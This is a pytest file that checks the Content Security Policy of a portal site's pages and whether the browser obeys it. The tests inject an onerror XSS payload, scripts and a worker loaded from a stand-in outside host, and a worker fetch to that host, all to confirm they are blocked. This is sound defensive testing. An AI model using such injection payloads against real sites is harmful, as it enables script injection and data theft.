"""The Content Security Policy of every page: written before anything is loaded, strict, and obeyed."""

import re

import pytest

from portal.guides.dom import Element, Screen
from tests.browser.site_pages import DECKS, SITE, addresses
from tests.browser.visitor import Visitor

NONE_OF = ("'unsafe-inline'", "'unsafe-eval'", "'strict-dynamic'", "data:", "blob:", "*", "http:")
HASH = r"'sha256-[A-Za-z0-9+/]{43}='"
# Where the sandbox stands, alone or beside a guide.
GUIDES = ("bo-sung", "dang-nhap", "nop-ho-so", "tao-tai-khoan", "tra-cuu")
MISSIONS = [path.parent.relative_to(SITE).as_posix() + "/" for path in SITE.glob("hoc-sinh/nhiem-vu/*/index.html")]
PLAYED = [it for it in DECKS if "<practice-portal" in (SITE / it / "index.html").read_text(encoding="utf-8")]
WITH_PYTHON = {"thuc-hanh/", "hoc-sinh/viec-la/", *(f"huong-dan/{name}/" for name in GUIDES), *MISSIONS, *PLAYED}
# What somebody slips into a page who can reach its scripts' objects, and what becomes of it.
SLIPPED = """async () => {
  const refused = [];
  document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
  const tried = {};
  const attempt = (name, act) => {
    try { act(); tried[name] = "done"; } catch (error) { tried[name] = error.name; }
  };
  const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
  attempt("a script's text", () => add("script", { text: "window.__ran = 1" }));
  attempt("a script from elsewhere", () => add("script", { src: "https://elsewhere.invalid/a.js" }));
  attempt("a worker from elsewhere", () => new Worker("https://elsewhere.invalid/a.js"));
  attempt("markup", () => add("p", { id: "slipped", innerHTML: "<img src=x onerror='window.__ran = 3'><b>a</b>" }));
  attempt("a style", () => document.body.firstElementChild.setAttribute("style", "margin-top: 77px"));
  attempt("a policy", () => trustedTypes.createPolicy("mine", { createHTML: (html) => html }));
  const deadline = Date.now() + 5000;
  while (!refused.includes("style-src-attr") && Date.now() < deadline) await new Promise(requestAnimationFrame);
  return {
    tried,
    refused: [...new Set(refused)].sort(),
    markup: document.querySelector("#slipped").childElementCount,
    margin: getComputedStyle(document.body.firstElementChild).marginTop,
    ran: window.__ran ?? 0,
  };
}"""
SENT = """() => fetch("http://elsewhere.invalid/").then(() => "sent", ({ message }) => message)"""


def head_of(address: str) -> list[Element]:
    path = SITE / (address if address.endswith(".html") else f"{address}index.html")
    screen = Screen(path.read_text(encoding="utf-8"))
    return [child for child in screen.root.all("head")[0].children if isinstance(child, Element)]


def policy_of(address: str) -> dict[str, list[str]]:
    meta = next(e for e in head_of(address) if e.attrs.get("http-equiv") == "Content-Security-Policy")
    return {rule.split()[0]: rule.split()[1:] for rule in meta.attrs["content"].split(";") if rule.strip()}


@pytest.mark.parametrize("address", addresses())
def test_a_page_has_a_strict_policy(address: str) -> None:
    """Only the page's own scripts, named by their hashes; Python only where the sandbox is; nothing from elsewhere."""
    policy = policy_of(address)
    scripts, styles = policy.pop("script-src"), policy.pop("style-src")
    assert not [source for source in (*scripts, *styles) if source in NONE_OF]
    assert [source for source in scripts if not re.fullmatch(rf"'self'|'wasm-unsafe-eval'|{HASH}", source)] == []
    assert [source for source in styles if not re.fullmatch(rf"'self'|'unsafe-hashes'|{HASH}", source)] == []
    assert ("'wasm-unsafe-eval'" in scripts) == (address in WITH_PYTHON)
    assert policy.pop("require-trusted-types-for") == ["'script'"]
    assert policy.pop("trusted-types") == ["default", "practice-portal", "practice-engine"]
    assert {source for sources in policy.values() for source in sources} <= {"'self'", "'none'", "data:", "blob:"}
    assert policy["default-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"]


@pytest.mark.parametrize("address", addresses())
def test_the_policy_comes_before_all_that_it_governs(address: str) -> None:
    """Only the encoding may stand before it."""
    first = head_of(address)[:2]
    assert "charset" in first[0].attrs
    assert first[1].attrs.get("http-equiv") == "Content-Security-Policy"


@pytest.mark.parametrize("address", ["", "thuc-hanh/", "huong-dan/nop-ho-so/"])
def test_the_browser_obeys_the_policy(visitor: Visitor, address: str) -> None:
    """Nothing that somebody slips into the page runs, is drawn as markup, or comes from elsewhere."""
    visitor.opens(address)
    found = visitor.page.evaluate(SLIPPED)
    assert found.pop("ran") == found.pop("markup") == 0
    assert found.pop("margin") != "77px"
    assert found.pop("tried") == {
        "a script's text": "TypeError",
        "a script from elsewhere": "TypeError",
        "a worker from elsewhere": "TypeError",
        "markup": "done",  # as text
        "a style": "done",  # without an effect
        "a policy": "TypeError",
    }
    assert {"require-trusted-types-for", "style-src-attr", "trusted-types"} <= set(found.pop("refused"))
    visitor.forgives("Content Security Policy", "Content Security policy", "TrustedScript")


def test_a_worker_sends_nothing_elsewhere(visitor: Visitor) -> None:
    """No page's policy reaches the workers, Python's among them: it takes its own means away, whatever a host says."""
    visitor.practises()
    worker = next(worker for worker in visitor.page.workers if worker.url.endswith("/worker.js"))
    assert "not of this site" in worker.evaluate(SENT)
    assert worker.evaluate("[typeof XMLHttpRequest, typeof WebSocket, typeof EventSource]") == ["undefined"] * 3
